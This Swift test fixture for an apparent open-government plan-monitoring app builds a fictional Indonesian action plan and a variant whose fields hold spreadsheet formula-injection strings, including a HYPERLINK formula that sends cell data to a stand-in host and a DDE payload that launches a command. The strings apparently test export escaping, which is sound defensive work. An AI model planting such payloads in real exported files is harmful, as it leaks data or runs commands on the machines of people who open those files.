import PantauDomain

/// A small made-up plan for tests, clearly not the real RAN: two commitments, two goals, three measures,
/// one CSO-owned measure and one semester left without a target.
enum SamplePlan {
    static let agency = OrganisationRecord(name: "Kementerian Contoh Keterbukaan", acronym: "KCK", kind: .governmentAgency)
    static let otherAgency = OrganisationRecord(name: "Badan Contoh Data", acronym: nil, kind: .governmentAgency)
    static let cso = OrganisationRecord(name: "Perkumpulan Warga Contoh", acronym: "PWC", kind: .civilSociety)

    static let code = "contoh-2030-2032"

    static func document(code: String = SamplePlan.code) -> PlanDocument {
        let start = YearMonth(iso: "2031-01")!
        return PlanDocument(
            code: code, title: "Rencana Aksi Contoh 2030-2032", periodStart: start, periodEnd: YearMonth(iso: "2032-12")!,
            semesters: Semester.schedule(startingIn: start, months: 24), scoringScheme: "ogi",
            organisations: [agency, otherAgency, cso],
            commitments: [
                CommitmentRecord(
                    number: 1, title: "Keterbukaan data contoh", theme: "Transparansi",
                    description: CommitmentDescription(
                        problem: "Data contoh sulit diakses.", commitment: "Membuka data contoh.",
                        howItSolves: "Warga dapat memeriksa data.", openGovernmentRelevance: "Transparansi.",
                        rpjmnAlignment: "Sejalan dengan RPJMN contoh.", sdgAlignment: "SDG 16.",
                        sdgTargets: ["16.6", "16.10"], additionalInformation: ""),
                    proposers: [cso.name], responsible: [agency.name], related: [otherAgency.name], partners: [cso.name],
                    planningDirectorate: "Direktorat Contoh", contacts: [ContactRecord(name: "Sekretariat", position: "Biro Contoh", email: "kontak@contoh.test", phone: "+62 21 000")],
                    start: start, end: YearMonth(iso: "2032-12")!,
                    indicators: [IndicatorRecord(text: "Terbitnya data contoh", start: start, end: YearMonth(iso: "2032-12")!)],
                    goals: [
                        GoalRecord(text: "Tersedianya portal data contoh", measures: [
                            MeasureRecord(text: "Portal data contoh daring", responsible: agency.name,
                                          expectedEvidence: "Tautan portal; laporan kegiatan",
                                          targets: [
                                            TargetRecord(semester: "B06", text: "Rancangan portal selesai"),
                                            TargetRecord(semester: "B12", text: "Uji coba portal di 3 provinsi"),
                                            TargetRecord(semester: "B18", text: "Portal digunakan 10 K/L"),
                                            TargetRecord(semester: "B24", text: "Portal digunakan 34 provinsi"),
                                          ]),
                            MeasureRecord(text: "Pemantauan warga atas portal", responsible: cso.name,
                                          expectedEvidence: "Laporan pemantauan",
                                          targets: [
                                            TargetRecord(semester: "B12", text: "Laporan pemantauan pertama"),
                                            TargetRecord(semester: "B24", text: "Laporan pemantauan kedua"),
                                          ]),
                        ]),
                    ],
                    note: "Data uji, bukan rencana sungguhan."),
                CommitmentRecord(
                    number: 2, title: "Partisipasi warga contoh", responsible: [otherAgency.name],
                    goals: [GoalRecord(text: "Warga terlibat", measures: [
                        MeasureRecord(text: "Forum warga", responsible: otherAgency.name, targets: [
                            TargetRecord(semester: "B06", text: "Forum pertama"),
                        ]),
                    ])]),
            ])
    }

    /// The sample plan with texts a spreadsheet would run as formulas, and texts that start with a quote of their own.
    /// The B06 target of commitment 1's first measure keeps its text (the reporting tests look it up by it).
    static func withFormulaLikeTexts(code: String = SamplePlan.code) -> PlanDocument {
        var document = document(code: code)
        document.title = #"=HYPERLINK("https://jahat.example/?d="&A1,"Rencana")"#
        document.commitments[0].title = "+SUM(1,2)"
        document.commitments[0].goals[0].text = "-2+3"
        document.commitments[0].goals[0].measures[0].text = "@cmd|' /C calc'!A0"
        document.commitments[0].goals[0].measures[0].expectedEvidence = "-5"
        document.commitments[0].goals[0].measures[0].targets[1].text = "'=tetap teks"
        document.commitments[0].goals[0].measures[1].text = "'kutipan biasa"
        document.commitments[0].goals[0].measures[1].targets[0].text = "''=dua kutip"
        document.commitments[1].goals[0].measures[0].targets[0].text = "=1+1"
        // What PostgreSQL's COPY text format escapes.
        document.commitments[1].goals[0].text = "C:\\Dokumen\\laporan\tversi 2\nbaris kedua \\N"
        return document
    }
}

import Fluent
@testable import Pantau

/// Stores a plan the way every real path does (command line, pages, first start): through `PlanImport`, so the
/// change is in the audit history, which is also what tells the public page cache that something changed.
@discardableResult
func importPlan(_ document: PlanDocument, status: PlanStatus = .adopted, replacingDraft: Bool = false,
                on database: any Database) async throws -> UUID {
    try await PlanImport.run(document, status: status, replacingDraft: replacingDraft, sourceFile: "test", actor: .system, on: database)
}
